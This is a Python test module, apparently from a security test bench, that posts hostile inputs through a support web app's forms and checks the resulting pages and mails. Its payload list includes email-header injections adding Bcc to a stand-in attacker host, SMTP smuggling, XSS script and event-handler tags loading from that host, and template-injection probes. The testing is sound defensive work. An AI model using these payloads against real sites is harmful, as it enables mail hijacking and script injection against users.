"""W6: what people write stays words, in mails and on pages: no header, no tag, no picture from elsewhere."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

from bench.attacker import Attacker
from bench.drill_door import APPLY, application, network, proof
from bench.drill_ground import Scene
from bench.drill_hosts import EVIL
from bench.drill_mails import Posted
from bench.tally import Tally

ONCE = frozenset((
    "from", "to", "subject", "date", "message-id", "auto-submitted", "x-auto-response-suppress", "in-reply-to",
    "references", "mime-version", "content-type", "content-transfer-encoding", "content-language",
    "list-unsubscribe", "list-unsubscribe-post", "x-peer", "x-mailfrom", "x-rcptto",
))  # fmt: skip
PAYLOADS = (
    f"a\r\nBcc: v@{EVIL}", f"a\nBcc: v@{EVIL}", f"a\rBcc: v@{EVIL}", f"a%0d%0aBcc: v@{EVIL}", f"a\u2028Bcc: v@{EVIL}",
    f"a\u0085Bcc: v@{EVIL}", f"a\x0bBcc: v@{EVIL}", f"a\x0cBcc: v@{EVIL}", f"a\r\n\r\n<b>corps</b> {EVIL}",
    f"a\r\nContent-Type: text/html\r\n\r\n{EVIL}", f"a\u560d\u560aBcc: v@{EVIL}", f"a\r\n.\r\nMAIL FROM:<v@{EVIL}>",
    f'"a" <v@{EVIL}>, b', f"=?utf-8?q?=0d=0aBcc:_v=40{EVIL}?=", f"a, v@{EVIL}",
    f"<script src=//{EVIL}/a.js></script>", "<script>alert(1)</script>", f"<img src=http://{EVIL}/p.gif>",
    f'"><img src=x onerror=alert(1)>{EVIL}', f"<a href=javascript:alert(1)>{EVIL}</a>",
    f"<style>@import '//{EVIL}'</style>",
    f"<link rel=stylesheet href=//{EVIL}>", f"<iframe src=//{EVIL}></iframe>", f"<svg onload=alert(1)>{EVIL}",
    f"<base href=//{EVIL}>", f"<form action=//{EVIL}><button>", f"<meta http-equiv=refresh content='0;//{EVIL}'>",
    "{{7*7}}{% debug %}", "{0.__class__}", f"<table background=http://{EVIL}/p.gif>", f"</title><script>//{EVIL}",
)  # fmt: skip
FETCHES = ("src", "srcset", "background", "poster", "data", "action", "formaction", "content", "xlink:href", "ping")
FOLLOWS = "what follows"
NEVER = frozenset(("iframe", "style", "object", "embed", "base", "applet", "frame", "foreignobject"))


def drills(scene: Scene) -> Iterator[Tally]:
    first = len(scene.box.posted)
    yield from (written(scene, name) for name in WRITERS)
    scene.box.settle()
    mails = Tally("W6 in mails, as they were sent")
    for mail in scene.box.posted[first:]:
        mails.attempt(lambda mail=mail: fault_of_mail(mail, f"127.0.0.1:{scene.place.port}"))
    yield mails


def written(scene: Scene, where: str) -> Tally:
    tally, taken = Tally(f"W6 words as {where}, on pages"), list[str]()
    for payload in PAYLOADS:
        tally.attempt(lambda payload=payload: fault_of_pages(WRITERS[where](scene, payload), taken))
    tally.note = f"{len(taken)} were taken"
    return tally


def fault_of_pages(pages: Iterator[tuple[str, str]], taken: list[str]) -> str:
    """Pages are asked for one after the other: the first writes, and the others show."""
    for name, text in pages:
        if name == FOLLOWS:
            taken.append(name)
        if fault := fault_of_markup(text):
            return f"{name}: {fault}"
    return ""


def subject(scene: Scene, payload: str) -> Iterator[tuple[str, str]]:
    agent, page = scene.attacker("agent"), "/support/demandes/nouvelle/"
    typed = {"contract": str(scene.cast.contract), "subject": payload, "text": "Bonjour"}
    yield from shown(agent, "/support/demandes/depot/", {**agent.keys(page), **typed}, "/support/demandes/?tri=-numero")


def text(scene: Scene, payload: str) -> Iterator[tuple[str, str]]:
    agent, page = scene.attacker("agent"), f"/support/demandes/{scene.cast.request}/"
    yield from shown(agent, f"{page}reponses/", {**agent.keys(page), "text": payload}, page)
    yield page, scene.attacker("handler").get(page).text


def shaped(scene: Scene, payload: str) -> Iterator[tuple[str, str]]:
    """As the editor sends it: with its tags."""
    agent, page = scene.attacker("agent"), f"/support/demandes/{scene.cast.request}/"
    typed = {"text": f"<p>Bonjour {payload}</p>", "text_format": "html"}
    yield from shown(agent, f"{page}reponses/", {**agent.keys(page), **typed}, page)


def file(scene: Scene, payload: str) -> Iterator[tuple[str, str]]:
    agent, page = scene.attacker("agent"), f"/support/demandes/{scene.cast.request}/"
    given = (f"{payload}.txt", b"Bonjour")
    typed = {**agent.keys(page), "text": f"Voici {network()}"}
    answer = agent.send(f"{page}reponses/", typed, "fichiers_un", given)
    yield FOLLOWS if answer.status == 302 else page, answer.text
    yield page, scene.attacker("handler").get(page).text


def person(scene: Scene, payload: str) -> Iterator[tuple[str, str]]:
    """Their own name, then a mail and a page that bear it."""
    number = PAYLOADS.index(payload) % len(scene.cast.inviters)
    host, page = inviter(scene, number), "/profil/"
    email = f"host-{number:03}@bench.example"
    typed = {"first_name": payload[:80], "last_name": "Essai", "email": email, "current_password": scene.cast.password}
    yield from shown(host, page, {**host.keys(page), **typed}, page)
    yield from invited(host, "Invitee")


def guest(scene: Scene, payload: str) -> Iterator[tuple[str, str]]:
    yield from invited(inviter(scene, PAYLOADS.index(payload) % len(scene.cast.inviters)), payload)


def inviter(scene: Scene, number: int) -> Attacker:
    """Nobody may invite many at once: they take turns."""
    return Attacker(scene.place.port, network(), scheme=scene.place.scheme, session=scene.cast.inviters[number])


def invited(host: Attacker, payload: str) -> Iterator[tuple[str, str]]:
    page = "/support/collaborateurs/invitation/"
    typed = {
        "email": f"hote{network()}@demo.example",
        "first_name": payload[:80],
        "last_name": payload[:80],
        "role": "1",
    }
    yield from shown(host, page, {**host.keys(page), **typed}, "/support/etablissement/agents/")


def stranger(scene: Scene, payload: str) -> Iterator[tuple[str, str]]:
    attacker = scene.attacker(place=network())
    names = {"last_name": payload[:80], "first_name": payload[:80], "party_name": payload[:120]}
    typed = application(f"hote{network()}@demo.example", proof=proof(attacker, APPLY), **names)
    yield from shown(attacker, APPLY, {**attacker.keys(APPLY), **typed}, APPLY)
    yield "the queue", scene.attacker("manager").get("/administration/demandes/").text


def product(scene: Scene, payload: str) -> Iterator[tuple[str, str]]:
    """What is contracted for bears a name; then a request on it writes a mail."""
    manager, page = scene.attacker("manager"), "/support/produits/nouveau/"
    typed = {"name": payload[:80], "service": "1"}
    yield from shown(manager, page, {**manager.keys(page), **typed}, "/support/produits/")
    form = scene.cast.contract_form
    typed = {"product": "1", "number": payload[:30], "reference": payload[:60], "signed_on": "2024-01-01"}
    yield from shown(manager, form, {**manager.keys(form), **typed}, form)


WRITERS = {
    "subject": subject, "text": text, "shaped text": shaped, "file": file, "person": person,
    "guest": guest, "stranger": stranger, "product": product,
}  # fmt: skip


def shown(attacker: Attacker, path: str, typed: dict[str, str], page: str) -> Iterator[tuple[str, str]]:
    """What is answered, then where it leads, then a page that shows what was kept."""
    answer = attacker.post(path, typed)
    if answer.status >= 500:
        raise RuntimeError(f"{path}: {answer.status}")
    yield path, answer.text
    if answer.header("location").startswith("/"):
        yield FOLLOWS, attacker.get(answer.header("location")).text
    yield page, attacker.get(page).text


class Markup(HTMLParser):
    """What a browser would make of it. is_mail: nothing may be fetched or followed elsewhere at all."""

    def __init__(self, host: str = "") -> None:
        super().__init__()
        self.host, self.faults = host, list[str]()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = {name: value or "" for name, value in attrs}
        hostile = [name for name in told if name.startswith("on")]
        fetched = [name for name in FETCHES if EVIL in told.get(name, "")]
        href, link = told.get("href", ""), tag == "a" and not self.host
        foreign = EVIL in href and not link
        elsewhere = self.host and href.startswith(("http", "//")) and urlsplit(href).netloc != self.host
        script = tag == "script" and not told.get("src", "").startswith("/static/")
        runs = href.strip().lower().startswith(("javascript:", "data:text", "vbscript:"))
        if hostile or fetched or foreign or elsewhere or script or runs or tag in NEVER:
            self.faults.append(f"<{tag} {' '.join(f'{name}={value[:60]!r}' for name, value in told.items())}>")


def fault_of_markup(html: str, host: str = "") -> str:
    """host: of the one place that links of a mail may lead to; on pages, what people write may hold links."""
    read = Markup(host)
    read.feed(html)
    read.close()
    return next(iter(read.faults), "")


def fault_of_mail(mail: Posted, host: str) -> str:
    """Its headers are those that we write, each once; it goes to whom it says; its words are words."""
    names = [name.lower() for name in mail.message]
    strange = {name for name in names if name not in ONCE or names.count(name) > 1}
    if strange:
        return f"headers {', '.join(sorted(strange))}"
    told = [one.addr_spec for one in mail.message["to"].addresses]
    if told != list(mail.to) or any(EVIL in address for address in mail.to):
        return f"to {told}, sent to {mail.to}"
    if any(part.get_filename() for part in mail.message.walk()):
        return "it carries a file"
    kinds = [part.get_content_type() for part in mail.message.walk() if not part.is_multipart()]
    if kinds not in (["text/plain"], ["text/plain", "text/html"]):
        return f"made of {kinds}"
    return fault_of_markup(mail.part("html"), host)
